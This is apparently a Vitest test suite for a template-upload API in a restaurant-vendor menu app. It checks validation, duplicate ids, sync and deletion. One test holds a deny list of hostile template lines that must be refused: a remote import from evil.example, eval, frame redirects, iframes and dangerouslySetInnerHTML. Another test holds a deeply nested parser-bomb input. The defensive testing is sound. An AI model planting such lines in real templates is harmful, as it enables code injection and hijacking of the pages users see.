import { describe, expect, test } from 'vitest'
import { spread } from '../../../../../scripts/long.ts'
import { createTestApp } from '../../../../test/app.ts'
import { slowTemplates } from '../../../../test/bad-files/slow-templates.ts'
import { cpuSecondsOf } from '../../../../test/cpu-seconds.ts'
import { form } from '../../../../test/form.ts'
import { SMALL_TEMPLATE, templateCalls } from '../../../../test/templates.ts'
import { addBundledTemplates } from '../catalogue/add-bundled-templates.ts'

const { app, db, send, signedInVendor, signedInAdmin } = await createTestApp()
await addBundledTemplates(db)
const admin = await signedInAdmin()
const vendor = await signedInVendor()
const { upload, toggle } = templateCalls(app, admin)

await upload('CornerCafe', { name: 'Corner café' })

const get = async (path: string) => (await send('GET', `/api/template-uploads/${path}`, admin)).json()
const msgs = (answer: Awaited<ReturnType<typeof upload>>) =>
  answer.json().details.map(({ msg }: { msg: string }) => msg)

test('a template that passes every check is stored as disabled and runs in a frame [API-98]', async () => {
  const { headers, payload } = await form({
    template: { bytes: Buffer.from(SMALL_TEMPLATE), name: 'TeaStall.jsx' },
    templateId: 'TeaStall',
    name: 'Tea stall',
    description: 'Steam and steel',
  })
  const answer = await send('POST', '/api/template-uploads/upload', {
    headers: { ...admin.headers, ...headers },
    payload,
  })
  expect(answer.statusCode).toBe(201)
  expect(answer.json()).toMatchObject({
    success: true,
    message: 'Template uploaded successfully!',
    data: {
      templateId: 'TeaStall',
      name: 'Tea stall',
      description: 'Steam and steel',
      isEnabled: false,
      accessLevel: 'free',
      source: 'uploaded',
      hasComponent: true,
      features: [],
      themeCount: 6,
      frameUrl: expect.stringMatching(/^\/t\/[0-9a-f]{32}$/),
    },
  })
  expect((await send('GET', answer.json().data.frameUrl)).statusCode).toBe(200)
})

test('the file is listed, and its compiled code can be downloaded [API-99]', async () => {
  const { success, data, pagination } = await get('list')
  expect([success, pagination.total]).toEqual([true, data.length])
  expect(data).toContainEqual({
    id: expect.any(String),
    templateId: 'CornerCafe',
    name: 'Corner café',
    fileName: 'CornerCafe.jsx',
    size: SMALL_TEMPLATE.length,
    status: 'valid',
    createdAt: expect.any(String),
  })
  const code = await send('GET', '/api/template-uploads/CornerCafe/module')
  expect(code.headers['content-type']).toContain('text/javascript')
  expect(code.body).toMatch(/^thelaTemplate\(function/)
  expect((await send('GET', '/api/template-uploads/BasicTemplate/module')).statusCode).toBe(404)
})

test('a file that is not .jsx is refused [TMG-21]', async () => {
  for (const answer of [
    await upload('Picture', { file: 'Picture.png' }),
    await upload('Script', { file: 'Script.js' }),
    await send('POST', '/api/template-uploads/upload', { headers: admin.headers, payload: {} }),
  ]) {
    expect(answer.statusCode).toBe(400)
    expect(answer.json().message).toBe('Please select a .jsx file')
  }
})

test('an id that is already used is refused, also if a bundled template uses it [TMG-36]', async () => {
  for (const id of ['CornerCafe', 'BasicTemplate']) {
    const answer = await upload(id, { name: 'Corner' })
    expect(answer.statusCode).toBe(409)
    expect(answer.json()).toEqual({
      message: 'Template "Corner" already exists. Please use a different Template ID.',
      error: 'Template already exists',
    })
  }
})

describe('a failed check has its own message', () => {
  const messagesOf = async (source: string) => msgs(await upload('Faulty', { source }))

  test('the file exports its component by default and uses React [TMG-23] [TMG-24]', async () => {
    const notExported = ['The file has no default export']
    expect(await messagesOf(SMALL_TEMPLATE.replace('export default', ''))).toEqual(notExported)
    expect(await messagesOf(SMALL_TEMPLATE.replace('export default', '/* export default */'))).toEqual(
      notExported,
    )
    const withoutReact = SMALL_TEMPLATE.replace(/import .*/, "const useState = () => ['']")
    expect(await messagesOf(withoutReact)).toEqual(['The file does not use React'])
  })

  test('the component accepts vendorConfig and menuItems, and returns JSX [TMG-25] [TMG-26]', async () => {
    const notAccepted = ['The component does not accept vendorConfig and menuItems']
    expect(await messagesOf(SMALL_TEMPLATE.replaceAll('vendorConfig', 'vendor'))).toEqual(notAccepted)
    expect(await messagesOf(SMALL_TEMPLATE.replaceAll('menuItems', 'items'))).toEqual(notAccepted)
    const withoutJsx = SMALL_TEMPLATE.replace(/return <main.*/, 'return vendorConfig.name + menuItems.length')
    expect(await messagesOf(withoutJsx)).toEqual(['The component does not return JSX'])
  })

  test('the component is a function or a class [TMG-27]', async () => {
    const notAComponent = 'The file has no function or class component'
    expect(await messagesOf('const price = 1')).toContain(notAComponent)
    expect(await messagesOf("import React from 'react'\nexport default 1")).toContain(notAComponent)
    const asClass = `
      import React from 'react'
      export default class Small extends React.Component {
        render() {
          const { vendorConfig, menuItems } = this.props
          return <h1>{vendorConfig.businessName}{menuItems.length}</h1>
        }
      }`
    expect((await upload('ClassStall', { source: asClass })).statusCode).toBe(201)
  })

  test('a file with any of them is refused and not stored [TMG-28]', async () => {
    const before = await storedTemplates()
    const refused = await upload('Faulty', { source: 'const price = 1' })

    expect([refused.statusCode, refused.json().message]).toEqual([400, 'Template validation failed'])
    expect(msgs(refused)).toEqual([
      'The file has no default export',
      'The file does not use React',
      'The component does not accept vendorConfig and menuItems',
      'The component does not return JSX',
      'The file has no function or class component',
    ])
    expect(await storedTemplates()).toEqual(before)
  })
})

const LOCATION_MESSAGE = 'location is not allowed: the frame may not be led elsewhere'

test('a template with forbidden code is refused', async () => {
  const withLine = (line: string) => SMALL_TEMPLATE.replace('const [search]', `${line}\n  const [search]`)
  const forbidden: [string, string][] = [
    ["import('https://evil.example/x.js')", 'import() is not allowed'],
    ["window.eval('1')", 'eval is not allowed'],
    ["new Function('return 1')()", 'Function is not allowed'],
    ["new Worker('x.js')", 'Worker is not allowed'],
    ["location.href = 'https://evil.example'", LOCATION_MESSAGE],
    ["location = 'https://evil.example'", LOCATION_MESSAGE],
    ["window.location.assign('https://evil.example')", LOCATION_MESSAGE],
    ['const frame = <iframe src="https://evil.example" />', '<iframe> is not allowed'],
    ['const hint = <link rel="preconnect" href="https://evil.example" />', '<link> is not allowed'],
    ["document.createElement('meta')", '<meta> is not allowed'],
    [
      "const bold = <p dangerouslySetInnerHTML={{ __html: '<b>' }} />",
      'dangerouslySetInnerHTML is not allowed',
    ],
  ]
  for (const [line, message] of spread(forbidden, 5)) {
    expect(msgs(await upload('Sly', { source: withLine(line) }))).toEqual([message])
  }
  const importing = `import _ from 'lodash'\nimport './styles.css'${SMALL_TEMPLATE}`
  expect(msgs(await upload('Sly', { source: importing }))).toEqual([
    'Only react may be imported, not "lodash"',
    'Only react may be imported, not "./styles.css"',
  ])
  expect(msgs(await upload('Sly', { source: `${SMALL_TEMPLATE}\n}` }))[0]).toMatch(
    /^The file cannot be read: .* \(line 7\)$/,
  )
})

test('a file that cannot be parsed or is too large is refused without stopping the server', async () => {
  const deep = SMALL_TEMPLATE.replace("useState('')", `useState(${'['.repeat(300_000)})`)
  const answer = await upload('Deep', { source: deep })
  expect(answer.statusCode).toBe(400)
  expect(answer.json().message).toBe('Template validation failed')
  expect((await upload('Big', { source: SMALL_TEMPLATE + ' '.repeat(1024 * 1024) })).json().message).toBe(
    'The file is larger than 1 MB',
  )
})

test.each(slowTemplates)('$title is parsed in another process', async ({ source }) => {
  const { result, seconds } = await cpuSecondsOf(() => upload('Slow', { source }))
  expect([result.statusCode, result.json().message]).toEqual([400, 'Template validation failed'])
  expect(seconds).toBeLessThan(3)
})

test('a missing name or an invalid id gets the same message as in the form [TMG-18]', async () => {
  const { headers, payload } = await form({
    template: { bytes: Buffer.from(SMALL_TEMPLATE), name: 'A.jsx' },
    templateId: '1x',
  })
  const answer = await send('POST', '/api/template-uploads/upload', {
    headers: { ...admin.headers, ...headers },
    payload,
  })
  expect(answer.statusCode).toBe(422)
  expect(answer.json().details).toEqual([
    { path: 'templateId', msg: expect.stringContaining('Start with a letter') },
    { path: 'name', msg: 'Template ID and name are required' },
  ])
})

test('a vendor can choose an uploaded template once it is enabled, and the menu uses it [TPL-37]', async () => {
  const choice = { templateId: 'CornerCafe', themeIndex: 5 }
  const choose = (payload: object) =>
    send('POST', '/api/vendors/template', { headers: vendor.headers, payload })
  expect((await choose(choice)).statusCode).toBe(403)
  await toggle('CornerCafe', true)
  expect((await choose({ ...choice, themeIndex: 6 })).statusCode).toBe(422)
  expect((await choose(choice)).statusCode).toBe(200)
  expect(await shown()).toEqual(choice)
  await toggle('CornerCafe', false)
  expect(await shown()).toBeNull()
})

test('a template record without a component is reported, and sync removes it [API-101] [API-102] [TMG-16]', async () => {
  await db
    .insertInto('templates')
    .values({ id: 'gone', templateId: 'GoneTemplate', name: 'Gone', source: 'bundled' })
    .execute()
  await send('DELETE', '/api/templates/BasicTemplate', admin)

  const listed = (await send('GET', '/api/templates', admin)).json().data
  expect(listed.find(({ id }: { id: string }) => id === 'gone')).toMatchObject({ hasComponent: false })
  const { summary, results } = await get('validate')
  const total = listed.length
  expect(summary).toEqual({ total, valid: total - 1, missing: 1 })
  expect(results.filter(({ status }: { status: string }) => status === 'missing')).toEqual([
    { templateId: 'GoneTemplate', name: 'Gone', status: 'missing' },
  ])
  expect(results).toContainEqual({ templateId: 'CornerCafe', name: 'Corner café', status: 'valid' })

  const synced = (await send('POST', '/api/template-uploads/sync', admin)).json()
  expect(synced).toEqual({
    success: true,
    message: 'Templates synced: 1 added, 1 removed.',
    added: ['BasicTemplate'],
    removed: ['GoneTemplate'],
  })
  expect((await get('validate')).summary).toEqual({ total, valid: total, missing: 0 })
  const [basic] = await db
    .selectFrom('templates')
    .select('isEnabled')
    .where('templateId', '=', 'BasicTemplate')
    .execute()
  expect(basic?.isEnabled).toBe(false)
})

test('deleting an uploaded template also deletes its file [API-100]', async () => {
  // Templates with the same code share their file.
  const source = SMALL_TEMPLATE.replaceAll('Small', 'ShortLived')
  const { frameUrl } = (await upload('ShortLived', { source })).json().data
  expect((await send('GET', frameUrl)).statusCode).toBe(200)
  expect((await send('DELETE', '/api/template-uploads/BasicTemplate', admin)).statusCode).toBe(404)

  const answer = await send('DELETE', '/api/template-uploads/ShortLived', admin)
  expect(answer.json()).toEqual({ success: true, message: 'Template deleted successfully!' })
  const files = (await get('list')).data.map(({ templateId }: { templateId: string }) => templateId)
  expect(files).not.toContain('ShortLived')
  expect((await send('GET', frameUrl)).statusCode).toBe(404)
  expect((await send('DELETE', '/api/template-uploads/ShortLived', admin)).statusCode).toBe(404)
})

const shown = async () => (await send('GET', `/api/public/vendor/${vendor.id}/menu-full`)).json().template

const storedTemplates = async () => [
  await db.selectFrom('templates').selectAll().orderBy('id').execute(),
  await db.selectFrom('templateUploads').select(['templateId', 'hash']).orderBy('templateId').execute(),
]
